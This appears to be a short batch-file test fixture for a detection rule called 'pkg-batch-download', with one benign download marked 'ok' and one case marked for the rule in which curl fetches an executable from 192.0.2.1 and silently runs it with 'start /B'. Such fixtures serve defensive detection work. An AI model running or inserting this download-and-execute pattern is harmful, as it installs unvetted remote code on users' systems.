@echo off
# ok: pkg-batch-download
curl -o readme.txt https://example.invalid/readme.txt
# ruleid: pkg-batch-download
curl http://192.0.2.1/x.exe -o agent.exe
start /B agent.exe
